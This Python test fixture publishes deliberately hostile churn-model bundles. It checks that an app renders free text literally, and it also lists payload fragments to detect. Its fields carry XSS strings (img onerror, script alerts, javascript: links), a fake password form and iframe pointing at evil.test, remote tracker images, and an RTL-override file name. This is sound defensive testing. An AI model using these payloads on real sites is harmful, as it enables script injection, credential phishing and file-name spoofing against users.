"""A hostile bundle: every free-text field and some data values carry Markdown, HTML and tricks.

Published by tests that check that the app shows such text literally: no markup renders, no
script runs, nothing is fetched from another host. Addresses use the reserved `.test` domain,
which never resolves.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd
from sklearn.ensemble import HistGradientBoostingClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline

from core.publishing.demo_data import CHURN_CATEGORICAL, CHURN_NUMERIC, churn_data, encoder
from core.publishing.publish import publish

IMG = "<img src=x onerror=alert('img')>"
SCRIPT = "<script>alert('script')</script>"
JS_LINK = "[click me](javascript:alert('link'))"
REMOTE_IMG = "![tracker](http://evil.test/t.png)"
DIRECTIVES = ":red[alarm] :material/warning: :smile:"
MATH = "$$\\int x$$"
FORM = "<form action='http://evil.test/login'><input name=password type=password></form>"
AUTOLINK = "www.evil.test and mail@evil.test"
RTL = "invoice\u202eexe.pdf"
LONG = "L" * 100_000

TITLE = f"Churn {IMG} **bold** {JS_LINK}"
OWNER = f"{REMOTE_IMG} Team"
SUMMARY = f"{SCRIPT} Predicts who leaves. {FORM}"
SUBJECT = "account [x](http://evil.test/a)"
ACTION = "<img src=http://evil.test/action.png> offer a discount"
EVENT = "left :material/home:"
LABELS = {
    "contract": "<b>Contract</b> :red[type]",
    "tenure_months": f"Tenure {REMOTE_IMG}",
    "monthly_charges": "Monthly bill `code`",
}
UNIT = "USD <script>alert('unit')</script>"
CURRENCY = "<i>pts</i>"
PER = f"month {JS_LINK}"
CARD = {
    "intended_use": AUTOLINK,
    "not_for": RTL,
    "training_data": f"{DIRECTIVES} ~~strike~~ {MATH}",
    "limitations": "# Heading\n\n- a list item\n\n1. numbered",
    "ethical_considerations": "[phish](http://evil.test/login) <iframe src=http://evil.test></iframe>",
}
PLAN_VALUE = ":red[Premium] $x$ <b>"  # a category the model is trained on
REGIONS = {"North": "<img src=http://evil.test/seg.png>", "South": JS_LINK, "East": LONG, "West": RTL}

# What must be visible, exactly as written, somewhere in the app (the first 200 characters of LONG).
VISIBLE = [TITLE, OWNER, "**bold**", "<b>Contract</b> :red[type]", "[phish](http://evil.test/login)"]


def hostile_data(n: int = 900, seed: int = 5) -> pd.DataFrame:
    data = churn_data(n=n, seed=seed)
    data["plan"] = data["plan"].replace({"Premium": PLAN_VALUE})
    data["region"] = data["region"].map(REGIONS)
    return data


def publish_hostile(root: Path) -> list[Path]:
    """Publish two hostile bundles on the same rows (a champion and a challenger) under root."""
    data = hostile_data()
    train, evaluation = data.iloc[:600], data.iloc[600:].reset_index(drop=True)
    features = CHURN_CATEGORICAL + CHURN_NUMERIC
    models = {
        "hostile": Pipeline(
            [("encode", encoder(CHURN_CATEGORICAL, CHURN_NUMERIC, scale=True)), ("model", LogisticRegression())]
        ),
        "hostile-challenger": Pipeline(
            [
                ("encode", encoder(CHURN_CATEGORICAL, CHURN_NUMERIC)),
                ("model", HistGradientBoostingClassifier(max_iter=30, random_state=0)),
            ]
        ),
    }
    folders = []
    for name, model in models.items():
        model.fit(train[features], train["churned"])
        publish(
            model,
            evaluation,
            out=root / name,
            overwrite=True,
            target="churned",
            task="binary",
            title=TITLE if name == "hostile" else f"Challenger {IMG}",
            version=":red[2026] $$x$$",
            owner=OWNER,
            summary=SUMMARY,
            positive_class="yes",
            subject=SUBJECT,
            action=ACTION,
            event=EVENT,
            id_column="customer_id",
            features={
                name: {"label": label, **({"unit": UNIT} if name == "monthly_charges" else {})}
                for name, label in LABELS.items()
            },
            segments=["region", "plan"],
            operating_point={"threshold": 0.5, "min_confidence": 0.6},
            business={
                "currency": CURRENCY,
                "volume": {"count": 1000, "per": PER},
                "value": {"true_positive": 100, "false_positive": -20, "false_negative": -50, "abstain": -5},
            },
            card=CARD,
        )
        folders.append(root / name)
    return folders


def raw_payloads() -> list[str]:
    """Fragments that must never reach a Markdown-rendering element unescaped."""
    return [
        "<img",
        "<script",
        "<form",
        "<iframe",
        "](javascript",
        "](http",
        ":red[",
        ":material/",
        "$$",
        "<b>",
        "**bold**",
        "# Heading",
        "www.evil",
        "@evil",
        "\u202e",
    ]
